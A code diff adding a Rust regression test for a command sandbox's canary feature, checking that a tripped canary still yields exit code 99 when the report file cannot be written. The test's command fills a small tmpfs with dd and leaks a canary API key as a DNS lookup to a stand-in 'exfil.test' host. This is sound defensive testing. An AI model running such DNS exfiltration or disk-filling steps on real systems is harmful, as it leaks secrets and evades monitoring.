@@ -618,3 +618,62 @@ exit 0"#,
         show(&out)
     );
 }
+
+/// README: "A tripped canary makes exec exit 99, whatever CMD's own code." But when the
+/// `--report` could not be written at exit, exec returned 125 (or CMD's code, if higher)
+/// whatever the canary said; and the report may be on a filesystem CMD's user can fill (a
+/// tmpfs /tmp, where the root's reserve of an ext4 does not apply). CMD fills it, leaks its
+/// token as a DNS name, and the caller that looks for 99 sees 125.
+#[test]
+fn a_tripped_canary_exits_99_even_when_the_report_cannot_be_written() {
+    use std::os::unix::fs::PermissionsExt;
+    use std::process::Command;
+    let w = World::new();
+    let policy = setup(&w);
+    std::fs::set_permissions(w.dir(), std::fs::Permissions::from_mode(0o755)).expect("chmod");
+    let small = w.dir().join("small");
+    std::fs::create_dir(&small).expect("a mount point");
+    let inner = exec_command(
+        &w,
+        &policy,
+        &[
+            "--user",
+            "nobody",
+            "--canary",
+            "--report",
+            small.join("report.json").to_str().expect("utf-8 path"),
+        ],
+        &format!(
+            "dd if=/dev/zero of={}/fill bs=64k 2>/dev/null; \
+             dig +time=1 +tries=1 \"$CANARY_API_KEY.exfil.test\" >/dev/null; echo asked; exit 3",
+            small.display()
+        ),
+    );
+    let script = r#"set -e
+mount -t tmpfs -o size=1m tmpfs "$SMALL"
+chown nobody "$SMALL"
+set +e
+"$@""#;
+    let mut cmd = Command::new("unshare");
+    cmd.args(["-m", "--propagation", "private", "sh", "-c", script, "sh"])
+        .arg(inner.get_program())
+        .args(inner.get_args())
+        .env("SMALL", &small)
+        .stdin(std::process::Stdio::null());
+    for (key, value) in inner.get_envs() {
+        match value {
+            Some(value) => cmd.env(key, value),
+            None => cmd.env_remove(key),
+        };
+    }
+    let out = cmd
+        .output()
+        .expect("run exec with its report on a small tmpfs");
+    assert!(stdout_of(&out).contains("asked"), "{}", show(&out));
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains("cannot write the report"),
+        "{}",
+        show(&out)
+    );
+    assert_eq!(out.status.code(), Some(99), "{}", show(&out));
+}
